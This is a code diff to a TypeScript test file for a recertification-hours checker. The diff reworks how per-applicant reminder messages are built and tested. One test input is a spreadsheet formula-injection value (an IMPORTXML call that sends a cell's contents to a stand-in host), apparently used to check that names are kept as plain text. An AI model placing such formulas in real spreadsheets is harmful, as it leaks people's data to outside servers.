@@ -6,6 +6,7 @@ import Excel from 'exceljs';
 import type { CheckAnswer, CheckRequest, SheetReading } from '../../../src/core/protocol/messages';
 import type { ApplicantReport, CheckReport } from '../../../src/core/report/check-report';
 import { keyOf, nameOf } from '../../../src/core/report/person-key';
+import { makeMessage } from '../../../src/core/report/person-message';
 import { ROSTER_SHEET } from '../../../src/core/report/roster-table';
 import type { LocalHost } from '../../../src/local/apps-script/host';
 import { formatReport } from '../../../src/local/cli/text-report';
@@ -16,7 +17,6 @@ import { writeRoster } from '../../../src/local/roster/write-roster';
 import { askAbout } from '../../../src/sidebar/fix/questions';
 import { reviewerFields } from '../../../src/sidebar/fix/reviewer';
 import type { ChangeSet, Filled } from '../../../src/sidebar/fix/task';
-import { makeMessage } from '../../../src/sidebar/people/message';
 import { makeRosterRows } from '../../../src/sidebar/people/roster-rows';
 import { makeRosterSheet } from '../../../src/sidebar/people/write-roster';
 import { openTestHost, type TestCell } from '../../addon/open-test-host';
@@ -240,7 +240,7 @@ test('plan papers are told of the set-up’s person alone', async () => {
   ]);
 });
 
-test('people in several tabs are in one roster, and the message names the tab', async () => {
+test('people in several tabs are in one roster, and a form sent again in another tab replaces the first', async () => {
   const [headings = [], ...rows] = RESPONSES;
   const of = (email: string) => [headings, ...rows.filter((row) => row[1] === email)];
   const host = await openTestHost(
@@ -258,8 +258,9 @@ test('people in several tabs are in one roster, and the message names the tab', 
     ['Ann Lee', 'Elmore'],
   ]);
   const report = check(host);
-  expect(makeMessage(report, personOf(report, 'ann@a.org'))).toContain(
-    '- “Ann”, row 4, Jan 8, 2026, Plan for the network (4 h)\n  No justification.',
+  const sent = personOf(report, 'ann@a.org').rows;
+  expect(sent.flatMap(({ findings }) => findings.map(({ message }) => message))).toContain(
+    'Row 4: Replaced by row 5.',
   );
 });
 
@@ -274,9 +275,8 @@ test.each(['=IMPORTXML("https://x.test/?d="&A2,"//a")', '+1+1', '@x', 'Two\nline
     const [first] = read(host, ROSTER_SHEET).rows.slice(4);
     expect(first?.[0]).toBe(name.replace(/\s/g, ' '));
     const report = check(host);
-    expect(makeMessage(report, personOf(report, 'bob@a.org')).split('\n')[1]).toBe(
-      `${name.replace(/\s/g, ' ')}, Dale`,
-    );
+    const { text } = makeMessage(report, personOf(report, 'bob@a.org'));
+    expect(text.split('\n')[0]).toBe(`Dear ${name.replace(/\s/g, ' ')},`);
   },
 );
 
@@ -378,41 +378,38 @@ test('a later decision about the row leaves the reviewer’s as it was', async (
 
 test('the message says what is missing, row by row', async () => {
   const report = check(await open(WITH_MEALS));
-  expect(makeMessage(report, personOf(report, 'ann@a.org'))).toBe(MESSAGE);
-  expect(makeMessage(report, personOf(report, 'cy@a.org'))).toContain(
-    'Cy Doe, Dale\nThe issue date of the certificate.',
-  );
+  expect(makeMessage(report, personOf(report, 'ann@a.org'))).toEqual({
+    name: 'Ann Lee',
+    address: 'ann@a.org',
+    subject: 'AL-CTO recertification: 50 hours to go',
+    text: MESSAGE,
+  });
+  expect(makeMessage(report, personOf(report, 'cy@a.org'))).toMatchObject({
+    subject: 'AL-CTO recertification: we need your issue date',
+    text: expect.stringContaining('Dear Cy Doe,\n\nWe need the issue date of your certificate'),
+  });
 });
 
-const MESSAGE = `AL-CTO recertification: what is still missing as of Nov 23, 2026
-Ann Lee, Elmore
-Cycle: Jun 15, 2024 to Jun 15, 2027 (204 days left)
-Standing: Behind (our estimate, not a policy rule).
-Hours: 10 of 60 covered, 50 to go.
+const MESSAGE = `Dear Ann Lee,
 
-Hours by course:
-- Roles And Responsibilities: 0 of 5 h, 5 h to go
-- Law, Ethics, and Policies: 0 of 5 h, 5 h to go
-- Data Management and Governance: 0 of 5 h, 5 h to go
-- Teaching and Learning: 0 of 5 h, 5 h to go
-- IT Management: 6 of 5 h, complete
-- Technology Planning: 4 of 5 h, 1 h to go
-- Elective hours: 1 of 30 h, 29 h to go
+Your log for the cycle Jun 15, 2024 to Jun 15, 2027, as of Nov 23, 2026: 10 of the 60 hours you need count; 50 hours to go.
 
-Rows that need attention:
-- Row 13, Oct 1, 2025, Fall conference (7 h)
-  The text says the hours include a meal, the exhibit hall, or registration. Take that time out.
-- Row 14, Oct 3, 2025, Winter conference (6 h)
-  The text says the hours include a meal, the exhibit hall, or registration. Take that time out.
+Still needed:
+- Roles And Responsibilities: 5 hours
+- Law, Ethics, and Policies: 5 hours
+- Data Management and Governance: 5 hours
+- Teaching and Learning: 5 hours
+- Technology Planning: 1 hour
+- In any course: 29 hours
 
-Rows that don’t count, and why:
-- Row 6, Sep 10, 2025, Switches in depth (6 h)
-  The same as row 2. It counts once.
-- Row 7, Jan 8, 2026, Plan for the network (4 h)
-  No justification. Explain how this relates to Technology Planning.
-  Replaced by row 8.
+Please send us what is missing:
+- “Fall conference”, Oct 1, 2025, 7 hours: do the hours leave out meals and exhibit time?
+- “Winter conference”, Oct 3, 2025, 6 hours: do the hours leave out meals and exhibit time?
 
-Plan documents: not checked here.
+These don’t count:
+- “Switches in depth”, Sep 10, 2025, 6 hours: sent twice; it counts once
+
+Please reply by Dec 7, 2026.
 
 This is a self-check: whether an activity qualifies is the AL-CTO program's decision.`;
 
@@ -425,10 +422,10 @@ test('a message of hundreds of rows is whole; a missing column is named in each'
   );
   const bare = [...RESPONSES, ...many].map((cells) => cells.filter((_, index) => index !== 8));
   const report = check(await open(bare));
-  const message = makeMessage(report, personOf(report, 'ann@a.org'));
-  expect(message.match(/^- Row \d+, /gm)).toHaveLength(304);
+  const message = makeMessage(report, personOf(report, 'ann@a.org')).text;
+  expect(message.match(/no column “Justification/g)).toHaveLength(304);
   expect(message).toContain(
-    '- Row 312, Oct 1, 2025, Talk 299 of many (1 h)\n  The log has no column “Justification of Relation to Coursework”.',
+    '- “Talk 299 of many”, Oct 1, 2025, 1 hour: the log has no column “Justification of Relation to Coursework”',
   );
   expect(message).toMatch(/the AL-CTO program's decision\.$/);
 });
